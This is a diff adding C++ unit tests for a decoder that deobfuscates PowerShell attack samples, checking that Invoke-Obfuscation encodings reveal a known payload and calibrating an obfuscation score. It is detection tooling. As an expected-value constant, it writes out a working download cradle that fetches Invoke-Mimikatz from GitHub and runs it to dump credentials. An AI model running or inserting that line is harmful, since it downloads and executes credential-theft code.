@@ -7,11 +7,13 @@
 #include <fstream>
 #include <algorithm>
 #include <map>
+#include <set>
 #include <string>
 #include <vector>
 
 #include "decoders/base64_candidates.h"
 #include "decoders/layered_decoder.h"
+#include "decoders/obfuscation_score.h"
 #include "gmock/gmock.h"
 #include "gtest/gtest.h"
 
@@ -246,6 +248,149 @@ TEST(LayeredDecoderCorpusTest, OtrfEmpireAndMetasploitDecode) {
   const auto msf = LayersOf("psh_stop_event_logging_controlset_minint_key",
                             CandidateKind::kFromBase64String);
   EXPECT_TRUE(AnyContains(msf, TextEncoding::kUtf8, "function Add-WebTransport"));
+}
+
+// Per decoder: the corpus blocks where it produced at least one layer.
+TEST(LayeredDecoderCorpusTest, PerDecoderTable) {
+  if (Corpus().empty()) GTEST_SKIP();
+  LayeredDecoder dec;
+  std::map<std::string, uint64_t> blocks_with;
+  for (const Block& b : Corpus()) {
+    std::set<std::string> seen;
+    dec.Run(b.text, [&](const Layer& l) { seen.insert(std::string(l.decoder)); });
+    for (const std::string& d : seen) ++blocks_with[d];
+  }
+  const DecodeCounters& c = dec.counters();
+  std::printf("%-10s %8s %10s %8s %9s %6s\n", "decoder", "blocks", "candidates",
+              "decoded", "rejected", "limit");
+  for (size_t i = 0; i < kDecoderCount; ++i) {
+    const std::string name(DecoderIdName(static_cast<DecoderId>(i)));
+    const DecoderCounters& d = c.per_decoder[i];
+    std::printf("%-10s %8llu %10llu %8llu %9llu %6llu\n", name.c_str(),
+                (unsigned long long)blocks_with[name],
+                (unsigned long long)d.candidates,
+                (unsigned long long)d.decoded,
+                (unsigned long long)d.malformed,
+                (unsigned long long)d.limit);
+  }
+  std::printf("duplicates dropped: %llu\n",
+              (unsigned long long)c.duplicates);
+  EXPECT_GT(blocks_with["charcodes"], 5u);
+  EXPECT_GT(blocks_with["normalize"], 5u);
+}
+
+// Every layer of the blocks of files whose path contains `part`, with the
+// decoders on its path joined by '/' (root first) and its note.
+struct PathLayer {
+  std::string path, note, text;
+};
+std::vector<std::vector<PathLayer>> BlocksOf(std::string_view part) {
+  std::vector<std::vector<PathLayer>> out;
+  LayeredDecoder dec;
+  for (const Block& b : Corpus()) {
+    if (b.file.find(part) == std::string::npos) continue;
+    dec.Run(b.text, [](const Layer&) {});
+    std::vector<PathLayer> layers;
+    const auto& ls = dec.layers();
+    for (const Layer& l : ls) {
+      std::string path;
+      for (int i = l.index; i > 0; i = ls[static_cast<size_t>(i - 1)].parent) {
+        path = std::string(ls[static_cast<size_t>(i - 1)].decoder) +
+               (path.empty() ? "" : "/") + path;
+      }
+      layers.push_back({path, std::string(l.note), std::string(l.text)});
+    }
+    out.push_back(std::move(layers));
+  }
+  return out;
+}
+
+const char kMimikatzCradle[] =
+    "IEX (New-Object Net.WebClient).DownloadString('https://raw."
+    "githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration/"
+    "Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds";
+
+// Invoke-Obfuscation's ENCODING menu: ASCII, hex, octal, binary (random
+// delimiters), [char] casts and BXOR all decode to the same cradle.
+TEST(LayeredDecoderCorpusTest, InvokeObfuscationEncodingMenuDecodes) {
+  if (Corpus().empty()) GTEST_SKIP();
+  std::set<std::string> notes;
+  for (const auto& layers :
+       BlocksOf("Powershell-Invoke-Obfuscation-encoding-menu")) {
+    for (const PathLayer& l : layers) {
+      if (l.path == "charcodes" && l.text == kMimikatzCradle) {
+        notes.insert(l.note);
+      }
+    }
+  }
+  EXPECT_TRUE(notes.count("list base=10")) << notes.size();
+  EXPECT_TRUE(notes.count("list base=16"));
+  EXPECT_TRUE(notes.count("list base=8"));
+  EXPECT_TRUE(notes.count("delimited base=2"));
+  EXPECT_TRUE(notes.count("char_cast base=10"));
+  EXPECT_TRUE(notes.count("list base=10 xor=0x5d"));
+}
+
+// The STRING menu (concatenation, reordering, reversal) and the nested
+// TOKEN/STRING samples of the "many" file normalise to the cradle.
+TEST(LayeredDecoderCorpusTest, InvokeObfuscationStringMenuNormalizes) {
+  if (Corpus().empty()) GTEST_SKIP();
+  size_t blocks = 0, revealed = 0;
+  for (const auto& layers :
+       BlocksOf("Powershell-Invoke-Obfuscation-string-menu")) {
+    ++blocks;
+    bool found = false;
+    for (const PathLayer& l : layers) {
+      if (l.path.rfind("normalize", 0) == 0 &&
+          l.text.find(kMimikatzCradle) != std::string::npos) {
+        found = true;
+      }
+    }
+    revealed += found;
+  }
+  EXPECT_EQ(blocks, 4u);
+  EXPECT_EQ(revealed, blocks);
+  // In the "many" file: -f reordering inside concatenation inside a reversed
+  // string takes four normalize passes.
+  bool deep = false;
+  for (const auto& layers : BlocksOf("Powershell-Invoke-Obfuscation-many")) {
+    for (const PathLayer& l : layers) {
+      if (l.path == "normalize/normalize/normalize/normalize" &&
+          l.text.find(kMimikatzCradle) != std::string::npos) {
+        deep = true;
+      }
+    }
+  }
+  EXPECT_TRUE(deep);
+}
+
+// Obfuscation score calibration. Obfuscated: the single-line blocks of
+// >= 300 bytes of the Invoke-Obfuscation files (the tool's output; the other
+// blocks there are its own source code). Everything else is counted as "not
+// Invoke-Obfuscation output" (it includes other real attacks, some of them
+// obfuscated, so this rate is an upper bound of the false positives).
+TEST(LayeredDecoderCorpusTest, ObfuscationScoreCalibration) {
+  if (Corpus().empty()) GTEST_SKIP();
+  size_t obf = 0, obf_hit = 0, other = 0, other_hit = 0;
+  for (const Block& b : Corpus()) {
+    const bool io = b.file.find("Invoke-Obfuscation") != std::string::npos;
+    const bool label = io && b.text.size() >= 300 &&
+                       b.text.find('\n') == std::string::npos;
+    const bool hit =
+        Score(ComputeObfuscationFeatures(b.text)) >= kObfuscationThreshold;
+    if (label) {
+      ++obf;
+      obf_hit += hit;
+    } else {
+      ++other;
+      other_hit += hit;
+    }
+  }
+  std::printf("obfuscation score >= %.2f: Invoke-Obfuscation %zu/%zu, other "
+              "corpus blocks %zu/%zu\n",
+              kObfuscationThreshold, obf_hit, obf, other_hit, other);
+  EXPECT_EQ(obf_hit, obf);
+  EXPECT_LE(other_hit * 100, other * 3);
 }
 
 }  // namespace
